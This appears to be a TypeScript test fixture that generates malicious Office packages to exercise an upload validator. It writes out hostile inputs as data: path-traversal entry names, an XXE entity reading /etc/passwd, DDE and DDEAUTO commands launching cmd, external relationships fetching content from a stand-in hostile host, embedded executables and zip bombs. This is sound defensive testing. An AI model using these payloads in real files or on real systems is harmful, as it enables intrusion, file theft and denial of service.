import { randomBytes } from 'node:crypto'
import { compound, sheetParts, wordParts } from '../honest.ts'
import { zip } from '../zip.ts'
import { all } from './made.ts'

const bomb = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576)

const outside = (type: string) =>
  `<Relationships><Relationship Id="r1" Target="https://jahat.id/a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" TargetMode="External"/></Relationships>`

/** Office files, new and old: with programs, with lies about their parts, and bombs. */
export const packages = () => {
  const both = (tries: string, extra: Parameters<typeof zip>[0]) =>
    all(tries, {
      'isi.docx': zip([...wordParts(), ...extra]),
      'isi.xlsx': zip([...sheetParts(), ...extra]),
    })
  return [
    ...both('package with macros', [{ name: 'word/vbaProject.bin', bytes: 'x' }]),
    ...both('package with a macro elsewhere', [{ name: 'xl/VBAPROJECT.BIN', bytes: 'x' }]),
    ...both('package with a control', [{ name: 'word/activeX/activeX1.xml', bytes: 'x' }]),
    ...both('package with a program', [{ name: 'word/embeddings/oleObject1.bin', bytes: 'MZ' }]),
    ...both('package with a program by name', [{ name: 'xl/media/gambar.exe', bytes: 'MZ' }]),
    ...both('package with a script', [{ name: 'xl/media/a.js', bytes: 'alert(1)' }]),
    ...both('package that climbs', [{ name: '../../etc/cron.d/x', bytes: 'x' }]),
    ...both('package with a place of its own', [{ name: '/etc/passwd', bytes: 'x' }]),
    ...both('package with a drive', [{ name: 'C:\\windows\\x', bytes: 'x' }]),
    ...both('package with a name twice', [
      { name: 'word/document.xml', bytes: 'x' },
      { name: 'word/document.xml', bytes: 'y' },
    ]),
    ...both('package with a lock', [{ name: 'rahasia.xml', bytes: 'x', encrypted: true }]),
    ...both('package that lies about a size', [{ name: 'a.xml', bytes: 'abc', saysSize: 70_000 }]),
    ...both('package with entities', [
      { name: 'a.xml', bytes: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
    ]),
    ...both('package with entities in letters of two bytes', [
      { name: 'a.xml', bytes: Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY x "y">]><a/>', 'utf16le') },
    ]),
    ...both('package that fetches a template', [
      { name: 'word/_rels/settings.xml.rels', bytes: outside('attachedTemplate') },
    ]),
    ...both('package that fetches a frame', [
      { name: 'word/_rels/document.xml.rels', bytes: outside('frame') },
    ]),
    ...both('package that starts a program', [
      {
        name: 'xl/worksheets/sheet2.xml',
        bytes: `<worksheet><c><f>cmd|'/c calc'!A1</f></c></worksheet>`,
      },
    ]),
    ...both('package that starts a program far behind', [
      {
        name: 'xl/worksheets/sheet3.xml',
        bytes: `${'<c><v>1</v></c>'.repeat(9_000)}<c><f>cmd|'/c calc'!A1</f></c>`,
      },
    ]),
    ...both('package linked to a program', [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        bytes: '<externalLink><ddeLink/></externalLink>',
      },
    ]),
    ...both('package with a field that starts a program', [
      {
        name: 'word/footer1.xml',
        bytes: '<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>',
      },
    ]),
    ...both('bomb', [{ name: 'xl/sharedStrings.xml', bytes: bomb(80) }]),
    ...both('bomb that says it is small', [{ name: 'a.xml', bytes: bomb(80), saysSize: 100 }]),
    ...both(
      'bomb of many parts',
      Array.from({ length: 2_100 }, (_, at) => ({ name: `a/${at}.xml`, bytes: 'x' })),
    ),
    ...all('package of another kind', {
      'kosong.docx': zip([]),
      'lembar.docx': zip(sheetParts()),
      'surat.xlsx': zip(wordParts()),
      'arsip.docx': zip([{ name: 'a.txt', bytes: 'x' }]),
      'program.xlsx': zip([{ name: 'META-INF/MANIFEST.MF', bytes: 'Main-Class: X' }]),
      'putus.docx': zip(wordParts()).subarray(0, 200),
      'rusak.xlsx': Buffer.concat([Buffer.from('PK\u0003\u0004'), randomBytes(400)]),
    }),
    ...all('old Office with what acts', {
      'makro.doc': compound('WordDocument', 'Macros'),
      'makro.xls': compound('Workbook', '_VBA_PROJECT'),
      'paket.doc': compound('WordDocument', 'Ole10Native'),
      'lembar.doc': compound('Workbook'),
      'surat.xls': compound('WordDocument'),
      'pemasang.doc': compound('Property.MSI'),
      'kosong.xls': compound(),
    }),
  ]
}
